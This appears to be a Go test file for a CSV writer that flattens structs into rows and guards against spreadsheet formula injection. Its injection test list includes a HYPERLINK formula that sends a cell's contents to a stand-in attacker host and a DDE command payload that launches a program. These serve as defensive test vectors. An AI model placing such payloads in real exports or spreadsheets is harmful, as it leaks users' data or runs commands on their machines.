package csvtable_test

import (
	"encoding/csv"
	"reflect"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"

	"kontor/server/csvtable"
)

type address struct {
	City    string `json:"city"`
	Country string `json:"country,omitzero"`
}

type base struct {
	ID string `json:"id"`
}

type record struct {
	base
	Name     string         `json:"name"`
	Balance  int            `json:"balance"`
	Active   bool           `json:"active"`
	Address  address        `json:"address"`
	Former   *address       `json:"former,omitzero"`
	Roles    []string       `json:"roles"`
	Parts    []address      `json:"parts,omitzero"`
	Metadata jsontext.Value `json:"metadata,omitzero"`
	Secret   string         `json:"-"`
	hidden   string
}

// table returns the rows as a reader of CSV sees them.
func table(t *testing.T, records ...record) [][]string {
	t.Helper()
	w := csvtable.New(reflect.TypeFor[record](), json.Deterministic(true))
	b := w.AppendHeader(nil)
	for i := range records {
		var err error
		if b, err = w.Append(b, &records[i]); err != nil {
			t.Fatal(err)
		}
	}
	if strings.Count(string(b), "\r\n") < len(records)+1 {
		t.Errorf("lines do not end as RFC 4180 says: %q", b)
	}
	rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, b)
	}
	return rows
}

func TestWriter_FlattensRecords(t *testing.T) {
	rows := table(t, record{base: base{"1"}, Name: "Anna", Balance: -5, Active: true, Address: address{City: "Zürich"}, Former: &address{"Bern", "CH"},
		Roles: []string{"Advisor", "Auditor"}, Parts: []address{{City: "Chur"}}, Metadata: jsontext.Value(`{"a":1}`), Secret: "s", hidden: "h"}, record{})
	want := [][]string{
		{"id", "name", "balance", "active", "address.city", "address.country", "former.city", "former.country", "roles", "parts", "metadata"},
		{"1", "Anna", "-5", "true", "Zürich", "", "Bern", "CH", "Advisor; Auditor", `[{"city":"Chur"}]`, `{"a":1}`},
		{"", "", "0", "false", "", "", "", "", "", "", ""},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("got %q\nwant %q", rows, want)
	}
}

// No text is a formula, whatever a spreadsheet ignores in front of it; a reader gets every other text back as it was.
func TestWriter_TextsAreNoFormulas(t *testing.T) {
	for _, text := range []string{"=1+1", "+41 44 668 18 00", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "＝1", "＋1", "－1", "＠x",
		`=HYPERLINK("http://evil.example?"&A1,"x")`, "=cmd|' /C calc'!A0", "\x00=1"} {
		rows := table(t, record{Name: text, Roles: []string{text}})
		if got := rows[1][1]; strings.ReplaceAll(got, "\r\n", "\n") != strings.ReplaceAll("'"+text, "\r\n", "\n") {
			t.Errorf("%q: got %q", text, got)
		}
		if got := rows[1][8]; !strings.HasPrefix(got, "'") {
			t.Errorf("%q in an array: got %q", text, got)
		}
	}
	for _, text := range []string{"Anna", "a,b", `say "hi"`, "two\nlines", "'quoted'", " space ", "a=b", "ÄÖÜ 🦊", ";", "a\tb", `","`, "\"\n\"", "x\u202ey", "Müller-Lüdenscheidt"} {
		if got := table(t, record{Name: text})[1][1]; got != text {
			t.Errorf("%q: got %q", text, got)
		}
	}
}

func FuzzWriter(f *testing.F) {
	for _, seed := range []string{"=1", "\"", "\r\n", ",", "\xff", " =", "'"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		text = strings.ToValidUTF8(text, "?")
		w := csvtable.New(reflect.TypeFor[record](), json.Deterministic(true))
		b, err := w.Append(nil, &record{Name: text})
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 11 {
			t.Fatalf("%q: %q %v", text, b, err)
		}
		got := strings.TrimLeft(rows[0][1], " \u00a0\u200b\ufeff")
		if got != "" && strings.ContainsAny(got[:1], "=+-@\t\r\n") {
			t.Errorf("%q: got %q", text, got)
		}
	})
}
